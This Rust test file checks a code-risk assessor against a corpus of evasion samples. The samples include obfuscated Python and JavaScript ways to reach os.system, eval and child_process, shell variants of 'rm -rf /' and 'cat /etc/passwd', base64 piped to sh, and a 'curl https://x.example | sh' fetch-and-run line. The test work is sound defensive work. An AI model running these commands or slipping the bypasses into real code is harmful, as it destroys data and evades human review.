//! The bypass corpus, as a record of what the assessor says today, and the evasions tried
//! against strict mode's person-in-the-loop: each must be rated at a level that asks a person,
//! while ordinary code that looks alike stays where it was.
//!
//! The assessment is ADVISORY: isolation is the boundary — every tier runs the code in a
//! hardened container. But strict mode asks a person for what the assessor flags, so an
//! evasion rated below that level runs unseen. These tests pin the current verdicts so a
//! change in what the assessor catches is a visible, reviewed diff, in either direction. Rows
//! marked MISS are known misses.

use messages::exec::{FileSpec, Tier};
use messages::risk::{AssessRequest, ContentType, RiskAssessment, RiskLevel, SecurityMode};
use risk_assessor::assess;

use ContentType::{Javascript as J, Python as P, Shell as S};
use RiskLevel::{Critical, High, Medium, Safe};

/// (content type, source, level today, tier under strict mode, a rule that fires)
const CORPUS: &[(ContentType, &str, RiskLevel, Tier, Option<&str>)] = &[
    // --- Python ---
    (
        P,
        "getattr(__builtins__,'ev'+'al')('1')",
        Critical,
        Tier::Session,
        Some("py.eval"),
    ),
    (
        P,
        "__import__('o'+'s').system('id')",
        Critical,
        Tier::Session,
        Some("py.import_os"),
    ),
    (
        P,
        "importlib.import_module(bytes.fromhex('6f73').decode())",
        Critical,
        Tier::Session,
        Some("py.dynamic_import"),
    ),
    (
        P,
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        Critical,
        Tier::Session,
        Some("py.exec"),
    ),
    // MISS: rot13 is only a string transform; nothing names a dangerous operation.
    (
        P,
        "import codecs\ncodecs.decode('bf.flfgrz','rot13')",
        Safe,
        Tier::Ephemeral,
        None,
    ),
    (
        P,
        "\"\".__class__.__bases__[0].__subclasses__()",
        Critical,
        Tier::Session,
        Some("py.introspection"),
    ),
    (
        P,
        "w = x.__init__.__globals__['system']",
        Critical,
        Tier::Session,
        Some("py.introspection"),
    ),
    (
        P,
        "import sys\nsys.modules['os'].system('id')",
        Critical,
        Tier::Session,
        Some("py.os_system"),
    ),
    (
        P,
        "f = types.FunctionType(compile('1','f','eval'), {})",
        Critical,
        Tier::Session,
        Some("py.compile"),
    ),
    (
        P,
        "import pickle\npickle.loads(b'x')",
        High,
        Tier::Session,
        Some("py.import_pickle"),
    ),
    (
        P,
        "import ctypes\nctypes.CDLL(None)",
        High,
        Tier::Session,
        Some("py.import_ctypes"),
    ),
    // breakpoint() opens pdb, which runs whatever Python arrives on stdin.
    (
        P,
        "breakpoint()",
        Critical,
        Tier::Session,
        Some("py.run_string"),
    ),
    // Python folds identifiers with NFKC, and so does the assessor.
    (
        P,
        "ｅｘｅｃ('print(1)')",
        Critical,
        Tier::Session,
        Some("py.exec"),
    ),
    // --- JavaScript ---
    (
        J,
        "require('child'+'_process').execSync('id')",
        Critical,
        Tier::Session,
        Some("js.child_process"),
    ),
    (
        J,
        "globalThis['ev'+'al']('1')",
        Critical,
        Tier::Session,
        Some("js.eval"),
    ),
    (
        J,
        "Function('return process')()",
        Critical,
        Tier::Session,
        Some("js.new_function"),
    ),
    (
        J,
        "import('child_process').then(m => m.execSync('id'))",
        Critical,
        Tier::Session,
        Some("js.child_process"),
    ),
    (
        J,
        "\\u0065val('1')",
        Critical,
        Tier::Session,
        Some("js.eval"),
    ),
    // process.binding reaches native internals: spawn_sync starts programs.
    (
        J,
        "process.binding('spawn_sync')",
        Critical,
        Tier::Session,
        Some("js.process_internals"),
    ),
    // --- Shell (PayloadsAllTheThings, Command Injection) ---
    (S, "r''m -rf /", Critical, Tier::Reject, Some("sh.rm_root")),
    (S, "r\\m -rf /", Critical, Tier::Reject, Some("sh.rm_root")),
    (
        S,
        "w\"h\"o\"am\"i",
        Medium,
        Tier::Session,
        Some("sh.not_allowlisted"),
    ),
    (
        S,
        "who$@ami",
        High,
        Tier::Session,
        Some("sh.dynamic_command"),
    ),
    (
        S,
        "$'\\x72\\x6d' -rf /",
        Critical,
        Tier::Reject,
        Some("sh.rm_root"),
    ),
    (
        S,
        "a=r;b=m;$a$b -rf /",
        High,
        Tier::Session,
        Some("sh.dynamic_command"),
    ),
    (
        S,
        "cat${IFS}/etc/passwd",
        High,
        Tier::Session,
        Some("sh.dynamic_command"),
    ),
    (
        S,
        "${PATH:0:1}bin/rm -rf /",
        High,
        Tier::Session,
        Some("sh.dynamic_command"),
    ),
    // The bash grammar does not accept a brace list as a command: judged on its text.
    (S, "{rm,-rf,/x}", Medium, Tier::Session, Some("sh.unparsed")),
    (
        S,
        "$(printf rm) -rf /",
        High,
        Tier::Session,
        Some("sh.dynamic_command"),
    ),
    (
        S,
        "`echo rm` -rf /",
        High,
        Tier::Session,
        Some("sh.dynamic_command"),
    ),
    (
        S,
        "/???/?m -rf /",
        High,
        Tier::Session,
        Some("sh.dynamic_command"),
    ),
    (
        S,
        "$(rev<<<'mr') -rf /",
        High,
        Tier::Session,
        Some("sh.substitution"),
    ),
    (
        S,
        "echo cm0gLXJm|base64 -d|sh",
        High,
        Tier::Session,
        Some("sh.pipe_to_shell"),
    ),
    (
        S,
        "eval 'rm -rf /'",
        Critical,
        Tier::Reject,
        Some("sh.rm_root"),
    ),
    // MISS (partly): an alias is not followed; `x` is only "not on the safe list".
    (
        S,
        "alias x=rm; x -rf /",
        Medium,
        Tier::Session,
        Some("sh.not_allowlisted"),
    ),
    (
        S,
        "echo / | xargs rm -rf",
        High,
        Tier::Session,
        Some("sh.rm"),
    ),
    (
        S,
        "bash -c 'rm -rf /'",
        Critical,
        Tier::Reject,
        Some("sh.rm_root"),
    ),
];

#[test]
fn the_bypass_corpus_verdicts_are_recorded() {
    let mut changed = Vec::new();
    for &(content_type, source, level, tier, rule) in CORPUS {
        let a = assess(&AssessRequest {
            content: source.into(),
            content_type,
            params: None,
            mode: None,
            files: Vec::new(),
        })
        .unwrap();
        let fired = rule.is_none_or(|r| a.findings.iter().any(|f| f.rule == r));
        if a.level != level || a.suggested_tier != tier || !fired {
            changed.push(format!(
                "{source:?}: now {:?}/{:?} {:?}, recorded {level:?}/{tier:?} {rule:?}",
                a.level,
                a.suggested_tier,
                a.findings.iter().map(|f| &f.rule).collect::<Vec<_>>()
            ));
        }
    }
    assert!(
        changed.is_empty(),
        "verdicts changed:\n{}",
        changed.join("\n")
    );
}

/// Code that reaches a program, the interpreter's internals or a module loader by a path the
/// seeds' names do not spell: module attributes (`pty.os`), namespace lookups, computed names,
/// loaders reached around `require`. Each must ask a person in strict mode.
const EVASIONS: &[(ContentType, &str)] = &[
    // --- Python: a module handed out by another module ---
    (P, "import linecache as l\nl.os.system('id')"),
    (P, "import pty\npty.os.system('id')"),
    (P, "import tempfile as t\nt._os.system('id')"),
    (P, "from tempfile import _os\n_os.system('id')"),
    (P, "import posixpath\nposixpath.os.system('id')"),
    (P, "import shutil as s\ns.os.system('id')"),
    (P, "import linecache\nm = linecache.os\nm.system('id')"),
    (P, "import linecache as l\nl.sys.modules['os'].system('id')"),
    (P, "import linecache\nlinecache.__dict__['os'].system('id')"),
    (P, "import linecache\nvars(linecache)['os'].system('id')"),
    (
        P,
        "import linecache\ngetattr(linecache, 'o' + 's').system('id')",
    ),
    (P, "__import__('linecache').os.system('id')"),
    (
        P,
        "import importlib\nimportlib.import_module('linecache').os.system('id')",
    ),
    // A module passed as an argument: the parameter is not known to be a module.
    (
        P,
        "def run(m):\n    m.os.system('id')\nimport linecache\nrun(linecache)",
    ),
    (P, "import linecache as l\nl.os.execv('/bin/sh', ['sh'])"),
    (
        P,
        "import linecache as l\nl.os.posix_spawn('/bin/id', ['id'], {})",
    ),
    (P, "import linecache as l\nl.os.popen('id').read()"),
    (P, "import linecache as l\nl.subprocess.run('id')"),
    // --- Python: other ways to start a program or run a string ---
    (P, "import pty\npty.spawn('/bin/sh')"),
    (
        P,
        "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))",
    ),
    (P, "import pydoc\npydoc.pipepager('x', 'id')"),
    (P, "import code\ncode.interact()"),
    (P, "import runpy\nrunpy.run_path('code/x.py')"),
    (
        P,
        "import operator, linecache\noperator.attrgetter('os.system')(linecache)('id')",
    ),
    (
        P,
        "object.__getattribute__(__import__('linecache'), 'os').system('id')",
    ),
    // --- Python: what cannot be resolved statically ---
    (P, "import linecache\ngetattr(linecache, name).system('id')"),
    (P, "setattr(target, name, value)"),
    (P, "globals()[name]('id')"),
    (P, "import linecache\nlinecache.__dict__[key].system('id')"),
    (P, "f = [eval][0]\nf('1')"),
    (P, "run = exec\nrun(code)"),
    // --- JavaScript ---
    (
        J,
        "module.constructor._load('child_'+'process').execSync('id')",
    ),
    (J, "process.binding('spawn_sync')"),
    (J, "process._linkedBinding('spawn_sync')"),
    (J, "process.dlopen(module, './x.node')"),
    (J, "const { binding } = process; binding('spawn_sync')"),
    (J, "const { binding: b } = process; b('spawn_sync')"),
    (J, "const p = process; p['bin' + 'ding']('spawn_sync')"),
    (J, "process[key]('spawn_sync')"),
    (
        J,
        "process.mainModule.require('child_process').execSync('id')",
    ),
    (J, "require.main.require('child_' + 'process')"),
    (
        J,
        "const name = 'child_' + os; require(name).execSync('id')",
    ),
    (J, "import(name).then((m) => m.execSync('id'))"),
    (J, "(0, eval)('1')"),
    (J, "const e = eval; e('1')"),
    (J, "[].constructor.constructor('return process')()"),
    (J, "require('vm').runInNewContext('process')"),
    (J, "require('./addon.node')"),
    (
        J,
        "const { createRequire } = require('module'); createRequire(__filename)('x')",
    ),
    (J, "globalThis[key]('1')"),
];

/// Ordinary code near the evasions, with the level it has always had: the new rules must not
/// raise it (and `os.path.join` is no `os.system`).
const LOOKALIKES: &[(ContentType, &str, RiskLevel)] = &[
    (P, "import os\nprint(os.path.join('a', 'b'))", High),
    (P, "import json\nprint(json.dumps({'a': 1}))", Safe),
    (P, "print(getattr(obj, 'name'))", Safe),
    (P, "setattr(obj, 'name', 1)", Safe),
    (
        P,
        "import linecache\nprint(linecache.getline('f.txt', 1))",
        Safe,
    ),
    (P, "import tempfile\nd = tempfile.mkdtemp()", Safe),
    (P, "row = {'os': 'linux'}\nprint(row['os'], args.os)", Safe),
    (P, "import platform\nprint(platform.system())", Safe),
    (P, "import re\nr = re.compile('x+')", Safe),
    (
        P,
        "class A:\n    def __getattr__(self, name):\n        return name",
        Safe,
    ),
    (
        J,
        "const path = require('path');\nconsole.log(path.join('a', 'b'));",
        Safe,
    ),
    (J, "if (require.main === module) { main(); }", Safe),
    (
        J,
        "class A { constructor(x) { this.x = x; } }\nconst a = new A(1);",
        Safe,
    ),
    (J, "const o = {}; o[key] = 1; console.log(o[key]);", Safe),
    (
        J,
        "console.log(JSON.stringify({ a: 1 }), process.argv[2]);",
        Safe,
    ),
];

fn strict(request: AssessRequest) -> RiskAssessment {
    assess(&AssessRequest {
        mode: Some(SecurityMode::Strict),
        ..request
    })
    .unwrap()
}

#[test]
fn every_evasion_asks_a_person_in_strict_mode() {
    let mut missed = Vec::new();
    for &(content_type, source) in EVASIONS {
        let a = strict(AssessRequest::new(source, content_type));
        if !a.requires_confirmation || a.level < High || a.suggested_tier == Tier::Ephemeral {
            missed.push(format!("{source:?}: {:?} {:?}", a.level, a.findings));
        }
    }
    assert!(
        missed.is_empty(),
        "rated below a person:\n{}",
        missed.join("\n")
    );
}

#[test]
fn lookalike_ordinary_code_keeps_its_level() {
    let mut changed = Vec::new();
    for &(content_type, source, level) in LOOKALIKES {
        let a = strict(AssessRequest::new(source, content_type));
        let exec_rule = a
            .findings
            .iter()
            .any(|f| matches!(f.rule.as_str(), "py.os_system" | "py.os_exec"));
        if a.level != level || exec_rule {
            changed.push(format!("{source:?}: {:?} {:?}", a.level, a.findings));
        }
    }
    assert!(
        changed.is_empty(),
        "ordinary code re-rated:\n{}",
        changed.join("\n")
    );
}

fn file(path: &str, content: &str) -> FileSpec {
    FileSpec {
        path: path.into(),
        content: content.into(),
        encoding: Default::default(),
    }
}

/// The code only imports or runs a file sent with it; the file does the harm.
#[test]
fn a_dangerous_file_behind_harmless_code_asks_a_person() {
    use messages::exec::ContentEncoding::Base64;
    let elf = FileSpec {
        path: "bin/tool".into(),
        // "\x7fELF\x02\x01\x01\x00", as the first bytes of a native program.
        content: "f0VMRgIBAQA=".into(),
        encoding: Base64,
    };
    let cases: Vec<(ContentType, &str, FileSpec, &str)> = vec![
        (
            P,
            "import x",
            file("code/x.py", "import pty\npty.os.system('id')"),
            "py.os_system",
        ),
        (
            P,
            "import x",
            file("x.py", "__import__('os').system('id')"),
            "py.os_system",
        ),
        (
            S,
            "bash run",
            file("run", "#!/bin/bash\nrm -rf /"),
            "sh.rm_root",
        ),
        (
            S,
            "sh job.txt",
            file("job.txt", "curl https://x.example | sh"),
            "sh.curl_pipe_shell",
        ),
        (
            J,
            "require('./lib')",
            file("lib.js", "process.binding('spawn_sync')"),
            "js.process_internals",
        ),
        (S, "cat bin/tool", elf, "file.opaque"),
        (
            P,
            "print(1)",
            file("tool", "#!/usr/bin/perl\nsystem('id')"),
            "file.opaque",
        ),
    ];
    for (content_type, code, spec, rule) in cases {
        let path = spec.path.clone();
        let alone = strict(AssessRequest::new(code, content_type));
        assert!(!alone.requires_confirmation, "{code:?} alone: {alone:?}");
        let a = strict(AssessRequest {
            files: vec![spec],
            ..AssessRequest::new(code, content_type)
        });
        assert!(a.requires_confirmation && a.level >= High, "{path}: {a:?}");
        let finding = a.findings.iter().find(|f| f.rule == rule);
        assert_eq!(
            finding.and_then(|f| f.path.as_deref()),
            Some(path.as_str()),
            "{a:?}"
        );
        assert!(
            a.reason.contains(&path),
            "the reason names the file: {}",
            a.reason
        );
    }
    // Data and ordinary code beside the code change nothing.
    let a = strict(AssessRequest {
        files: vec![
            file("data.csv", "name,os\nbox,linux\n"),
            file("lib/util.py", "def add(a, b):\n    return a + b\n"),
            file("notes.md", "# Notes\nNothing to run here.\n"),
        ],
        ..AssessRequest::new("import util\nprint(util.add(1, 2))", P)
    });
    assert_eq!(a.level, Safe, "{a:?}");
}
